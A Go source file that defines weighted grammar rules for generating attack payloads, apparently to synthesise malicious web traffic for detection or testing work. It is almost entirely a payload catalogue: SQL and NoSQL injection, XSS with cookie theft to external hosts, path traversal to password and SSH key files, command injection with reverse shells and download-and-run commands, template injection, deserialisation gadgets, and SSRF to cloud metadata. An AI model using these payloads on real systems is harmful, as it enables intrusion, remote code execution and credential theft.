package generate

import "apiml/traffic"

// moreRules extend the grammars of payloads: dialects of databases, contexts in
// pages, shells, wrappers, and the very short ones with which a search begins.
func moreRules() source {
	return source{
		// SQL: first probes.
		{"sqShort", `
4~'
2~"
2~\'
2~')
2~'--
2~«n»'
2~«n»'--
2~«n»"
1~''
1~'"
1~'))
1~';
1~';--
1~'#
1~"#
1~«n»)
1~«n» and 1=1
1~«n» and 1=2
1~«n»-(«n»-«n»)
1~«n»/1
1~«n»*1
1~'||'
1~'+'
1~' '
1~«slugword»'||'«a3»
1~«slugword»'+'«a3»
1~«slugname»'--
1~«n»' order by «n»--
1~«n» or true
1~«n»||1
1~'or'1
1~'=0--+
1~'=''or'
1~'^'
1~«n»;--
1~«bt»`},
		{"pgf", "version()\ncurrent_user\ncurrent_database()\n(select string_agg(«col»,',') from «tbl»)\npg_read_file('/etc/passwd')\nquery_to_xml('select * from «tbl»',true,true,'')\ninet_server_addr()\ncurrent_setting('data_directory')\n(select usename from pg_user limit 1)"},
		{"msf", "@@version\nsystem_user\ndb_name(«n»)\nhost_name()\nis_srvrolemember('sysadmin')\n(select top 1 name from sysobjects where xtype='u')\n(select top 1 «col» from «tbl» for xml path(''))\nfn_virtualfilestats\nobject_name(«nnn»)\nstuff((select ','+name from sys.tables for xml path('')),1,1,'')"},
		{"orf", "(select banner from v$version where rownum=1)\nuser\nsys_context('userenv','current_schema')\n(select table_name from all_tables where rownum=«n»)\nutl_http.request('http://«chost»/'||user)\n(select listagg(«col»,',') within group (order by «col») from «tbl»)\nextractvalue(xmltype('<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % «a3» SYSTEM \"http://«chost»/\">%«a3»;]>'),'/l')\ndbms_utility.sqlid_to_sqlhash('«a6»')"},
		{"lif", "sqlite_version()\n(select group_concat(tbl_name) from sqlite_master)\n(select sql from sqlite_master limit 1 offset «n»)\nload_extension('«a6»')\nhex(randomblob(«n»))\n(select name from pragma_table_info('«tbl»'))"},
		{"sqPg", `
3~«sqn» and 1=cast(«pgf» as int)«sqend»
2~«sqn» union select «n»,«pgf»,null«sqend»
2~«sqn»;select case when («cmpn») then pg_sleep(«n») else pg_sleep(0) end«sqend»
1~«sqn»||(select «pgf»)||«sq»
1~«sqn»;copy (select '') to program '«ccmd»'«sqend»
1~«sqn»;create extension dblink;select dblink_connect('host=«chost» user=a')«sqend»
1~«sqn» and «pgf» ~ '^«a1»'«sqend»
1~«sqn» and (select «n» from generate_series(1,«big»))=1«sqend»
1~$$«a3»$$||«pgf»
1~«n»::int=«n» and «pgf»::text like '«a1»%'
1~«sqn» and cast(chr(«nn»)||«pgf» as numeric) is null«sqend»
1~«sqn»;do $$ begin perform pg_sleep(«n»); end $$«sqend»`},
		{"sqMs", `
3~«sqn» and 1=convert(int,«msf»)«sqend»
2~«sqn» union all select null,«msf»,null«sqend»
2~«sqn»;if («cmpn») waitfor delay '0:0:«n»'«sqend»
1~«sqn»;exec sp_configure 'show advanced options',1;reconfigure«sqend»
1~«sqn»;exec('xp_'+'cmdshell ''«ccmd»''')«sqend»
1~«sqn» and «msf»>0«sqend»
1~«sqn»+convert(varchar,«msf»)+«sq»
1~«sqn»;declare @«a3» nvarchar(999);set @«a3»=cast(0x«hex32» as nvarchar(999));exec sp_executesql @«a3»«sqend»
1~«sqn»;insert into openrowset('sqloledb','server=«chost»;uid=sa','select 1') select * from «tbl»«sqend»
1~«sqn» order by (select null) offset «n» rows«sqend»
1~«sqn» having 1=1«sqend»
1~«sqn»;bulk insert «a6» from 'c:\boot.ini'«sqend»
1~[«slugword»]=(select [name] from [sys].[tables])`},
		{"sqOra", `
3~«sqn» union select «orf»,null from dual«sqend»
2~«sqn» and «orf» is not null«sqend»
1~«sqn»||«orf»||«sq»
1~«sqn» and (select count(*) from all_users t1,all_users t2,all_users t3)>0«sqend»
1~«sqn» or 1=ctxsys.drithsx.sn(1,«orf»)«sqend»
1~«sqn» and dbms_lock.sleep(«n») is null«sqend»
1~«sqn»;begin execute immediate 'grant dba to «a6»'; end;«sqend»
1~«sqn» and ascii(substr(«orf»,«n»,1))=«nn»«sqend»
1~«sqn» and rownum=«n» and «orf» like '«a1»%'«sqend»`},
		{"sqLite", `
2~«sqn» union select 1,«lif»,3«sqend»
1~«sqn» and «lif» glob '«a1»*'«sqend»
1~«sqn» and unicode(substr(«lif»,«n»,1))>«nn»«sqend»
1~«sqn»;attach database '/var/www/«a3».php' as «a3»«sqend»
1~«sqn» and instr(«lif»,'«a1»')«sqend»`},
		{"sqEvade", `
2~«sqn»/**/«?orw»/**/«cmpn»«sqend»
2~«sqn»«ws»«?unionw»«ws»«?selectw»«ws»«svs»«sqend»
1~«sqn»/*!50000«?unionw»*//*!50000«?selectw»*/«ws»«svs»«sqend»
1~«sqn»«?unionw»(«?selectw»(«n»),(«n»),(«sqf»))«sqend»
1~«sqn» un/**/ion sel/**/ect «svs»«sqend»
1~«sqn» uniunionon selselectect «svs»«sqend»
1~«sqn»+«?unionw»+«?selectw»+«svs»«sqend»
1~«n»e0«?unionw»«ws»«?selectw»«ws»«svs»
1~«n».union select@«a1»:=«n»,«sv»
1~«sqn»%0a«?unionw»%0a«?selectw»%0a«svs»
1~«sqn»%a0and%a0«cmpn»%23
1~«sqn» or 0x«x2»=0x«x2»«sqend»
1~«sqn» or~~«n»«sqend»
1~«sqn»||!!«n»||«sq»
1~«sqn» like«ws»«sq»%
1~«sq»<=>«sq»
1~«sq»&&«n»&&«sq»
1~«sq»^«sq»
1~«sq» or/*«a3»*/1/*«a3»*/=/*«a3»*/1«sqend»
1~«sqn» /*!12345and*/ «sqf» /*!like*/ 0x«x2»25«sqend»
1~«sqn» or json_extract('{"«a1»": «n»}','$.«a1»')=«n»«sqend»
1~«sqn» or '{"«a1»":«n»}'::jsonb @> '{"«a1»":«n»}'«sqend»
1~«sqn» or data @> '{}'«sqend»
1~«sqn» or json_length("[]")<«n»«sqend»
1~＇ or «n»=«n»«sqend»
1~ʼ or «n»=«n»«sqend»
1~%bf' or 1=1«sqend»
1~\%27 or «n»=«n»«sqend»
1~«sqn»;%00«?selectw» «sqf»`},
		{"orw", "or\nand\nxor"}, {"unionw", "union\nunion all\nunion distinct"}, {"selectw", "select"},
		{"ws", "6~ \n2~/**/\n2~\\t\n2~\\n\n1~/*«a3»*/\n1~+\n1~\\r\\n\n1~  "},
		{"sqClause", `
2~(case when («cmpn») then «slugword» else «slugnoun» end)
2~«slugword»,(select «sqf» from «tbl»)
1~«slugword» desc,if(«cmpn»,sleep(«n»),1)
1~id and («cmpn»)
1~«slugword»;«n»
1~1,extractvalue(1,concat(0x7e,«sqf»))
1~«slugword» limit «n» procedure analyse(extractvalue(«n»,concat(0x3a,«sqf»)),1)
1~«n» into outfile '/tmp/«a3»'
1~«slugword») values (1,«sqf»)«sqend»
1~«slugword»=«slugword» or «cmpn»
1~*,«sqf»
1~count(*) from «tbl»«sqend»
1~name from «tbl» where «cmpn»«sqend»
1~%' and «cmpn» and '%'='
1~%' or «col» like '%«a1»
1~%') union select «svs»«sqend»
1~«nn») and «cmpn» and («n»=«n»
1~"«slugword»" in (select «col» from «tbl»)`},
		{"sqQuiet", `
2~«slugword»' and «n»=«n» and '«a3»'='«a3»
2~«slugword»' and «n»=«nn» and '«a3»'='«a3»
1~«n» and «n4»=«n4»
1~«n» and «n4»=«nnn»
1~«slugword»" and "«a3»"="«a3»
1~«slugword»') and ('«a3»'='«a3»
1~«slugword»%' and «n»=«n» and '%'='
1~(select (case when («n4»=«n4») then «n» else (select «n» union select «n») end))
1~«n») rlike (select (case when («n4»=«n4») then «n» else 0x28 end)) and («n»=«n»
1~«slugword»' and elt(«n4»=«n4»,«n») and '«a3»'='«a3»
1~«slugword»' procedure analyse() and '1
1~«n» and make_set(«n4»=«n4»,«n»)
1~-«n4» or «n4»=«n4»
1~-«n4»' or «n»=«n» or '«a3»'='«a3»
1~«slugname»' or «col» is not null or «col»='
1~«slugword»'='«slugword»
1~«slugword»' in ('«slugword»') and '1
1~«n»-if(«cmpn»,1,0)-«n»
1~«slugword»' group by «col» having '1'='1`},
		{"sqState", `
2~select «col» from «tbl»
2~select * from «tbl»
1~select «sqf»
1~select «sqf»;
1~select «pgf»;
1~select «msf»
1~select «orf» from dual
1~select «orf» from v$instance;
1~select «col» from all_tables
1~select «col» from pg_«slugnoun»
1~select name from sys«slugnoun» where xtype='u'
1~«col» from all_tab_columns
1~create user «slugname» identified by '«a6»'
1~create user «slugname» with password '«a6»';
1~grant connect to «slugname»; grant resource to «slugname»;
1~alter user «slugname» identified by «a6»;
1~drop user «slugname»;
1~exec sp_addlogin '«slugname»' , '«a6»'
1~exec sp_addsrvrolemember '«slugname»' , 'sysadmin'
1~exec master..xp_cmdshell '«ccmd»'
1~«n»;exec sp_«slugnoun»--
1~exec xp_regread '«a3»','«a3»'
1~print @@version
1~declare @«a1» varchar(«nnn») select @«a1» = 0x«hex32»
1~declare @«a1» nvarchar(«nn») set @«a1»=«msf» exec(@«a1»)
1~insert into «tbl» values («n»,'«slugname»','«a6»')
1~insert into «tbl»(«col») select «col» from «tbl»
1~update «tbl» set «col»='«a6»' where «col»='«slugname»'
1~delete from «tbl» where «n»=«n»
1~drop table «tbl»
1~truncate table «tbl»;
1~bulk insert «tbl» from '\\\\«chost»\\«a3»'
1~utl_http.request('http://«chost»/')
1~load data infile '/etc/passwd' into table «tbl»
1~replace(«col»,'«a1»','«a3»') from «tbl»
1~(select «sqf»)
1~,@@version
1~@@«slugnoun»
1~begin declare @«a1» varchar(«nnn») end
1~if not(substring((select @@version),«nn»,1) <> «n») waitfor delay '0:0:«n»'
1~if(substring(user(),«n»,1)='«a1»',benchmark(«big»,md5(1)),null)`},
		{"sqOr", `
2~or «a1»=«a1»
2~«slugword» or «a1»=«a1»
1~or «n»=«n»
1~or «n»>«n»
1~or '«a3»' = '«a3»'
1~or '«a3»' > '«a1»'
1~or '«a6»' like '«a1»%'
1~or '«a3»' in ('«a3»')
1~or '«a3»' = n'«a3»'
1~or '«a6»' = '«a3»'+'«a3»'
1~or '«a6»'='«a3»'||'«a3»'
1~or «n» in («n»,«n»)
1~or «nn» between «n» and «nnn»
1~or «col» like '%«a1»%'
1~or «col» is not null--
1~or isnull(«n»/0)
1~«slugword»') or ('«a1»'='«a1»
1~«slugword»") or ("«a1»"="«a1»
1~«slugword»' or '«a1»'='«a1»
1~«slugword»" or "«a1»"="«a1»
1~’ or ‘«n»’=‘«n»’
1~’ or ’’=’
1~) or («a1»=«a1»
1~)) or ((«n»=«n»
1~or «a1»=«a1»#
1~or «a1»=«a1»--
1~or true--
1~or not false
1~-«nnn» or «n»
1~«n» or «n»
1~(«n4»-benchmark(«n»,0x«hex32»))
1~(«n4»-pg_backend_pid()) «n4»
1~«n»-sleep(«n»)
1~«nnn»-'«n»'='«n»
1~«n»+(select 0 from (select sleep(«n»))«a1»)`},
		{"sqProbe", `
2~«a3»'«a3»
2~«tok»'«tok»
2~«a6»"«a6»
1~«a3»«n»'«a3»«n»
1~«a6»` + "`" + `«a6»
1~«a3»'"()
1~«a3»'"(
1~«a3»'"\\
1~«a6»%27«a6»
1~a'b"c'd"
1~«a3»'"<«a3»>
1~'«a6»'
1~("'.,.,)'
1~«n»'"
1~«n»\\'`},
		// Cross-site scripting.
		{"xsShort", `
4~<«a1»
2~<script>
2~">
2~'>
2~"><
2~<«a3»>
2~'"><«a3»>
1~<s>«a3»
1~</«a3»>
1~<!--
1~<svg>
1~<x onx=«n»
1~" onx="
1~"«a3»=«n»
1~<«a3»/>
1~alert(«n»)
1~<plaintext>
1~{{«n»*«n»}}
1~%3C«a3»%3E`},
		{"xsObf", `
2~<script>«^js»</script>
2~<img src=x onerror="&#«n»0«n»;«&js»">
1~<script>eval(String.fromCharCode(«nn»,«nnn»,«nnn»,«nnn»,«nnn»))</script>
1~<script>[]["filter"]["constructor"]("«js»")()</script>
1~[][(![]+[])[+[]]+([![]]+[][[]])[+!+[]+[+[]]]+(![]+[])[!+[]+!+[]]]
1~<script>window["\x61\x6c\x65\x72\x74"](«n»)</script>
1~\u003c«tagn» src=x «hev»=«js»\u003e
1~\x3cscript\x3e«js»\x3c/script\x3e
1~&lt;script&gt;«js»&lt;/script&gt;
1~＜script＞«js»＜/script＞
1~<«?scriptw»>«js»</«?scriptw»>
1~<«?tagn» «?hev»=«aval»>
1~<script>top["al"+"ert"]("«a3»")</script>
1~<script>(()=>{«js»})()</script>
1~<script>/(«a3»)/.source;«js»</script>
1~<script>setTimeout«bt»«js»«bt»</script>
1~<script>Function("«js»")()</script>
1~<script>Reflect.apply(alert,null,[«n»])</script>
1~+ADw-script+AD4-«js»+ADw-/script+AD4-
1~<script>location.href="//«a6».example.net/"+btoa(document.cookie)</script>
1~<svg><script>&#x61;&#x6c;&#x65;&#x72;&#x74;(«n»)</script></svg>
1~<a href="&#x6a;&#x61;vascript:«js»">«word»</a>
1~<a href="java&Tab;script:«js»">«word»</a>
1~<iframe/src="data:text/html,<svg onload=«js»>">
1~<img src=«bt»x«bt» onerror=«bt»«js»«bt»>
1~<x/onclick=«js»>«word»
1~<img/src="x"/onerror="«js»"/>
1~<svg/onload=«js»//
1~<svg%0aonload=«js»>
1~<script>«js»<!--
1~<script>self[Object.keys(self)[«n»]]</script>
1~<style>*{background:url("javascript:«js»")}</style>
1~<div style="width:expression(«js»)">`},
		{"scriptw", "script\niframe\nsvg"},
		{"xsFrame", `
2~{{constructor.constructor('«js»')()}}
1~{{$eval.constructor('«js»')()}}
1~{{_c.constructor('«js»')()}}
1~<div ng-app ng-csp><div ng-click=$event.view.«js»>«word»</div></div>
1~<p v-html="'<img src=x onerror=«js»>'"></p>
1~[«word»](javascript:«js»)
1~![«word»]("onerror="«js»)
1~[url=javascript:«js»]«word»[/url]
1~[img]x" onerror="«js»[/img]
1~{"html":"<img src=x onerror=«js»>"}
1~${«js»}
1~#{«js»}
1~<x-«a3» @click="«js»">
1~<div data-bind="text: «js»">
1~<template><script>«js»</script></template>
1~<select><option><style></select><img src=x onerror=«js»></style>
1~<math><mtext><table><mglyph><style><img src=x onerror=«js»>
1~<noembed><img title="</noembed><img src=x onerror=«js»>">
1~<form><math><mtext></form><form><mglyph><style></math><img src onerror=«js»>
1~<svg><animate onbegin=«js» attributeName=x dur=«n»s>
1~<svg><set attributeName=onmouseover to=«js»>
1~<object data=javascript:«js»>
1~<portal src=javascript:«js»>
1~<video poster=javascript:«js»>
1~<audio src onloadstart=«js»>
1~<details open ontoggle=«js»>
1~<input autofocus onfocus=«js»>
1~<body onpageshow=«js»>
1~<marquee onstart=«js»>«word»</marquee>
1~<keygen autofocus onfocus=«js»>
1~<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart="«js»"></b>
1~<meter onmouseover=«js»>0</meter>
1~<a ping=//«a6».example.net href=# onclick=«js»>«word»
1~javascript:/*--></title></style></textarea></script><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+«js»//'>
1~jaVasCript:/*-/*«bt»/*\«bt»/*'/*"/**/(/* */oNcliCk=«js» )//`},
		{"xsLong", `
2~<p>«sentence»</p><script>«js»</script><p>«sentence»</p>
2~«sentence» <img src="«imgsrc»" onerror="«js»"> «sentence»
1~<div class="«slugword»"><a href="«link»" onmouseover="«js»">«noun»</a></div>
1~<p>«sentence» <a href="javascript:«js»">«word»</a> «sentence»</p>
1~«sentence» «xsEvent» «sentence»
1~<b>«noun»</b><iframe src="//«a6».example.net/«a3»" width=0 height=0></iframe>
1~[quote="«slugname»<script>«js»</script>"]«sentence»[/quote]
1~«code» "><script>«js»</script>
1~<script>var «slugword» = {"a":«n»};document.forms[0].action="//«a6».example.net/";</script>«sentence»
1~<script>x=new XMLHttpRequest();x.open("GET","//«a6».example.net/?c="+document.cookie);x.send()</script>
1~<form action="//«a6».example.net/«a3»"><input name=password><button>«word»</button></form><script>document.forms[0].submit()</script>`},
		// Files.
		{"ptWrap", `
3~php://filter/«phpf»/resource=«up»«ptFile»
2~php://filter/«phpf»/resource=«slugnoun»
1~php://input%00
1~data://text/plain;base64,«b64bin»
1~data:text/plain,%3C?php%20system('id');?%3E
1~zip://«file2».jpg%23«a3»
1~phar://«slugnoun».jpg/«a3».txt
1~expect://«a3»
1~file://localhost/«ptFile»
1~file:/«ptFile»
1~file:////«ptFile»
1~glob:///var/www/*
1~ogg://«ptFile»
1~compress.zlib:///«ptFile»
1~http://«chost»/«a3».txt%3f
1~https://«chost»/shell.txt?
1~//«chost»/«a3».php
1~ftp://«chost»/«a3».txt%00
1~\\\\«chost»\\share\\«a3».php
1~%5c%5c«chost»%5c«a3»
1~jar:http://«chost»/«a3».jar!/
1~netdoc:«ptFile»
1~view-source:file:///«ptFile»`},
		{"phpf", "convert.base64-encode\nread=convert.base64-encode\nstring.rot13\nzlib.deflate/convert.base64-encode\nconvert.iconv.UTF8.UTF16LE\nread=string.toupper|string.rot13"},
		{"up", "3~∅\n2~../\n1~../../\n1~/"},
		{"ptTail", `
2~«slugnoun»/«up2»«ptFile»
1~«up2»«ptFile»«ptSuf»
1~./«up2»«ptFile»
1~«slugnoun».php%00«up2»«ptFile»
1~/«slugnoun»/«up2»«up2»«ptFile»
1~«up2»«slugnoun»
1~«up2»index.php
1~«up2»config.php%00
1~..%2f«slugnoun».conf
1~%2e%2e/%2e%2e/«ptFile»
1~/..%252f..%252f«ptFile»
1~/%5c../%5c../«ptFile»
1~....%5c....%5c«ptFile»
1~..%ef%bc%8f..%ef%bc%8f«ptFile»
1~%u002e%u002e%u2215«ptFile»
1~%uff0e%uff0e%u2216«ptFile»
1~..%01/..%01/«ptFile»
1~..%e0%80%af«ptFile»
1~..%c1%9c..%c1%9c«ptFile»
1~/static/%5c..%5c..%5c«ptFile»
1~;/..;/..;/«ptFile»
1~..;/manager/html
1~.../...//«ptFile»
1~..///..///«ptFile»
1~C:%5cboot.ini
1~C%3a%2fWindows%2fSystem32%2fdrivers%2fetc%2fhosts
1~~root/.bashrc
1~~/.ssh/id_rsa`},
		{"up2", "4~../../\n3~../../../\n2~../\n2~../../../../../../\n1~..%2f..%2f\n1~..\\\\..\\\\\n1~%2e%2e%2f%2e%2e%2f\n1~..%5c..%5c"},
		// Commands on Windows, first probes, odd shells.
		{"cmShort", `
3~;id
2~|id
2~&&id
2~;ls
2~|ls
2~$(id)
2~«bt»id«bt»
1~&dir
1~|whoami
1~;whoami
1~|dir
1~;pwd
1~%0aid
1~\nid
1~||id
1~;id;
1~&id&
1~${«n»*«n»}
1~{{«n»*«n»}}
1~;sleep «n»
1~|sleep «n»
1~& ping -n «n» localhost
1~«bt»sleep «n»«bt»
1~$(sleep «n»)
1~;echo «a3»
1~|cat
1~>/tmp/«a1»
1~;w
1~|ps
1~;set
1~|ver
1~&ver`},
		{"winc", `
type C:\Windows\win.ini
type %SYSTEMROOT%\win.ini
dir C:\
net user «a6» «tok» /add
net localgroup administrators «a6» /add
ipconfig /all
systeminfo
tasklist
whoami /priv
certutil -urlcache -split -f http://«chost»/«a3».exe C:\Temp\«a3».exe
bitsadmin /transfer «a3» http://«chost»/«a3» %TEMP%\«a3»
reg query HKLM\Software
wmic process list brief
for /f %i in ('whoami') do ping %i.«chost»
ping -n «n» «chost»
echo %USERNAME%
cmd.exe /c «a3».bat
mshta http://«chost»/«a3».hta
rundll32 \\«chost»\«a3»\«a3».dll,«a1»
copy \\«chost»\«a3»\nc.exe c:\nc.exe
timeout /t «n»
nslookup «a6».«chost»
w^h^o^a^m^i
c"m"d /c dir
%COMSPEC% /c dir`},
		{"psc", `
powershell -nop -w hidden -c "IEX(New-Object Net.WebClient).DownloadString('http://«chost»/«a3».ps1')"
powershell -enc «b64bin»
powershell.exe Invoke-WebRequest http://«chost»/«a3» -OutFile C:\Temp\«a3»
pwsh -c "Get-Process | Out-File \\«chost»\«a3»"
IEX(iwr -useb http://«chost»/«a3»)
powershell Get-Content C:\inetpub\wwwroot\web.config
powershell Start-Sleep -s «n»
[System.Diagnostics.Process]::Start("cmd","/c «a3»")
$x=New-Object System.Net.Sockets.TCPClient('«chost»',«n4»)`},
		{"cmWin", `
4~«csep»«winc»
2~«csep»«psc»
2~&«winc»&
1~"&«winc»&"
1~'|«winc»|'
1~«slugword»|«winc»
1~«slugword»&&«winc»
1~127.0.0.1 & «winc»
1~«psc»
1~| «winc»
1~^& «winc»
1~%0a«winc»
1~«file2».txt"&«winc»&"`},
		{"cmEvade", `
2~;{«a3»,«a3»};«ccat»${IFS}«cfile»
1~;$(echo «64ccmd»|base64 -d)
1~;echo${IFS}«64ccmd»|base64${IFS}-d|sh
1~|$(rev<<<'dwssap/cte/ tac')
1~;c${«a1»}at${IFS}/e${«a1»}tc/p${«a1»}asswd
1~;/???/c?t${IFS}/???/p??s??
1~;ca$@t /et$@c/pas$@swd
1~;$'\x63\x61\x74' /etc/passwd
1~;eval "$(printf '\151\144')"
1~;python3 -c "print(open('/etc/passwd').read())"
1~;perl -e 'exec "/bin/sh"'
1~;ruby -rsocket -e 'exit'
1~;php -r '$s=fsockopen("«chost»",«n4»);'
1~;0<&196;exec 196<>/dev/tcp/«chost»/«n4»;sh <&196
1~;mkfifo /tmp/«a1»;nc «chost» «n4» 0</tmp/«a1»|/bin/sh >/tmp/«a1»
1~;curl «chost»/$(whoami)
1~;nslookup $(whoami).«chost»
1~;wget --post-file=/etc/passwd «chost»
1~;(sleep «n»)
1~;sh${IFS}-c${IFS}id
1~;${PATH:0:1}bin${PATH:0:1}id
1~%0a/bin/cat%20/etc/passwd
1~;lua -e "os.execute('id')"
1~;awk 'BEGIN{while(("id"|getline l)>0)print l}'
1~;xxd -r -p<<<6964|sh
1~-o ProxyCommand=«ccmd»
1~--use-askpass=«a3»
1~-exec «ccmd» {} \;
1~--checkpoint-action=exec=«a3».sh
1~|tee /var/www/html/«a3».php
1~() { ignored; }; /bin/bash -c '«ccmd»'`},
		{"cmPipe", `
2~«file2».pdf; «ccmd»
2~«slugname»@«slugnoun».example; «ccmd»
2~«slugnoun».example | «ccmd»
1~8.8.8.8; «ccmd» #
1~8.8.8.8 && «ccmd»
1~«sentence»; «ccmd»
1~"; «ccmd»; echo "
1~'; «ccmd»; echo '
1~«slugword»$(«ccmd»)
1~«slugword»«bt»«ccmd»«bt»
1~«n» | «ccmd»
1~--help; «ccmd»
1~/dev/null; «ccmd»
1~http://«slugnoun».example/$(«ccmd»)
1~«date»; «ccmd»
1~«sentence» {{«texp»}} «sentence»
1~«first» ${«texp»}
1~«sentence» ${«jndi»:«jproto»://«chost»/«a3»}`},
		{"cmTmpl2", `
2~{{«n»*'«n»'}}
1~{{self.__init__.__globals__.__builtins__.__import__('os').popen('«ccmd»').read()}}
1~{{url_for.__globals__['os'].popen('«ccmd»').read()}}
1~{{get_flashed_messages.__globals__.__builtins__.open('/«ptFile»').read()}}
1~{{request|attr('application')|attr('\x5f\x5fglobals\x5f\x5f')}}
1~{{['«ccmd»']|map('system')|join}}
1~{{_self.env.setCache("ftp://«chost»")}}{{_self.env.loadTemplate("«a3»")}}
1~{{app.request.server.all|join(',')}}
1~${T(java.lang.System).getenv()}
1~${"".getClass().forName("java.lang.Runtime")}
1~__${T(java.lang.Runtime).getRuntime().exec("«ccmd»")}__::.x
1~*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('«ccmd»').getInputStream())}
1~<#assign x="freemarker.template.utility.ObjectConstructor"?new()>
1~${product.getClass().getProtectionDomain()}
1~#set($e="«a3»");$e.getClass().forName("java.lang.Runtime").getMethod("getRuntime",null)
1~<%= system('«ccmd»') %>
1~<%= IO.popen('«ccmd»').readlines() %>
1~<%=File.open('/«ptFile»').read%>
1~#{«bt»«ccmd»«bt»}
1~= global.process.mainModule.require('child_process').execSync('«ccmd»')
1~{{#with "s" as |string|}}{{#with "e"}}{{lookup string.sub "constructor"}}{{/with}}{{/with}}
1~@(1+«n»)@System.Diagnostics.Process.Start("cmd")
1~{{.System "«ccmd»"}}
1~{% debug %}{{settings.SECRET_KEY}}
1~{% include '/«ptFile»' %}
1~{{ '/«ptFile»'|file_excerpt(1,30) }}
1~${{<%[%'"}}%\
1~{{"".__class__}}
1~${class.getResource("")}
1~%{#a=(new java.lang.ProcessBuilder(new java.lang.String[]{"«a3»"})).start()}
1~%{(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(@java.lang.Runtime@getRuntime().exec('«ccmd»'))}
1~redirect:${#req.getSession()}
1~{"type":"java.lang.AutoCloseable","@type":"«slugword».«Slug»"}
1~["org.springframework.context.support.ClassPathXmlApplicationContext","http://«chost»/«a3».xml"]
1~<java version="1.8" class="java.beans.XMLDecoder"><void method="exec"><string>«ccmd»</string></void></java>
1~<sorted-set><dynamic-proxy><interface>java.lang.Comparable</interface></dynamic-proxy></sorted-set>
1~{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start"}
1~AAEAAAD/////AQAAAAAAAAA«b64bin»
1~rO0ABXVyABNbTGphdmEubGFuZy5PYmplY3Q7«b64bin»
1~O:«nn»:"«Slug»\«Cls»":«n»:{s:«n»:"\0*\0«a6»";O:«n»:"«Slug»":0:{}}
1~a:2:{i:7;O:«nn»:"GuzzleHttp\Cookie\FileCookieJar":0:{}i:7;i:7;}
1~--- !ruby/object:Gem::Installer\ni: x
1~c__builtin__\neval\n(S'__import__("os").system("«a3»")'\ntR.`},
		// Others: stores, queries, redirects, prototypes.
		{"oxNo", `
2~[$ne]=«n»
2~{"$ne":null}
2~{"$gt":""}
1~{"$regex":"^«a1».*"}
1~{"$nin":["«slugname»"]}
1~{"$or":[{},{"«a1»":"«a1»"}]}
1~{"$where":"this.«col».length>«n»"}
1~';return true;//
1~' || '1'=='1
1~'||this.«col»!='
1~a';sleep(«n4»);var b='
1~true, $where: '1 == 1'
1~{"username":{"$ne":"«a3»"},"password":{"$exists":true}}
1~{"$func":"var_dump"}
1~' && this.«col».match(/^«a1»/)//+%00
1~{"selector":{"_id":{"$gt":null}}}
1~{"query":{"match_all":{}},"script_fields":{"x":{"script":"java.lang.Math.class.forName(\"java.lang.Runtime\")"}}}
1~db.«tbl».find()
1~';db.«tbl».drop();//`},
		{"oxDir", `
2~*)(uid=*))(|(uid=*
2~*)(|(«slugword»=*
1~*))%00
1~«slugname»)(&(objectClass=*
1~*)(userPassword=*
1~)(cn=*))(|(cn=*
1~' or '1'='1' or ''='
1~' or count(//*)=«n» or 'a'='b
1~'] | //user/*[contains(*,'
1~x' or name()='«slugnoun»' or 'x'='y
1~' and string-length(name(/*[1]))=«n» and '1'='1
1~doc('http://«chost»/')
1~') or position()=«n» or ('
1~' or substring(//«slugnoun»[«n»]/«col»,1,1)='«a1»
1~*|(&(«slugword»=*`},
		{"oxGo", `
2~//«chost»/«slug»
2~https://«chost»/login
1~/\«chost»
1~\/\/«chost»
1~https:«chost»
1~///«chost»//
1~https://«slugnoun».example@«chost»/
1~https://«chost»/«slugnoun».example
1~https://«slugnoun».example.«chost»/
1~//«chost»%2f%2e%2e
1~/%09/«chost»
1~/%5c«chost»
1~//%5c%5c«chost»
1~https://«chost»%23.«slugnoun».example
1~https://«chost»?.«slugnoun».example
1~javascript://%250a«js»
1~//google%E3%80%82example
1~〱«chost»
1~data:text/html;base64,«64js»
1~/redirect?url=//«chost»
1~%0d%0aLocation:%20https://«chost»`},
		{"oxProto", `
2~__proto__[«slugword»]=«a3»
1~constructor[prototype][«slugword»]=«n»
1~{"__proto__":{"«slugword»":"«a3»"}}
1~{"constructor":{"prototype":{"«slugword»":true}}}
1~__proto__.«slugword»
1~<!--#exec cmd="«a3»"-->
1~<!--#echo var="DATE_LOCAL"-->
1~<esi:vars>$(HTTP_COOKIE)</esi:vars>
1~=HYPERLINK("http://«chost»?x="&A1,"«word»")
1~@SUM(1+9)*cmd|' /C calc'!A0
1~+cmd|'/c powershell IEX(wget «chost»/«a3»)'!A1
1~=IMPORTXML(CONCAT("http://«chost»/?v=",CONCATENATE(A2:E2)),"//a/a10")
1~%s%s%s%s%n%n
1~%x.%x.%x.%p
1~«aaaa»
1~%00%00%00
1~to=«email»%0aBcc:«email»
1~«email»%0d%0aBcc: «email»
1~/admin/..;/
1~X%0d%0a%0d%0a<script>«js»</script>
1~GET / HTTP/1.1%0d%0aHost: «chost»`},
		{"aaaa", "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA«aaa2»"},
		{"aaa2", "∅\nAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA«aaa2»"},
		{"oxInner", `
2~http://«inhost»:«n4»/«slugnoun»
2~http://«inhost»«inpath»
1~http://«inhost»
1~«inhost»
1~http://[::ffff:127.0.0.1]:«n4»/
1~http://0/
1~http://127.127.127.127/
1~http://localtest.example:«n4»/
1~http://spoofed.«chost»/
1~http://«slugnoun».example:80@«inhost»/
1~http://«inhost»?.«slugnoun».example
1~http://10.0.0.«n»:8500/v1/kv/?recurse
1~http://172.17.0.1:2375/v1.24/containers/json
1~http://localhost:9200/_cat/indices
1~http://127.0.0.1:8080/actuator/env
1~http://metadata.google.internal/computeMetadata/v1/project/attributes/?recursive=true
1~http://169.254.170.2/v2/credentials/«uuid»
1~http://instance-data/latest/meta-data
1~gopher://127.0.0.1:3306/_%a3%00%00
1~file:///proc/self/environ
1~http://0251.0376.0251.0376/
1~http://0xa9fea9fe/latest/meta-data/
1~http://2852039166/
1~http://«chost»/redirect?to=http://«inhost»/
1~sftp://«chost»:«n4»/
1~ldap://localhost:11211/%0astats%0aquit
1~jdbc:h2:mem:;INIT=RUNSCRIPT FROM 'http://«chost»/«a3».sql'
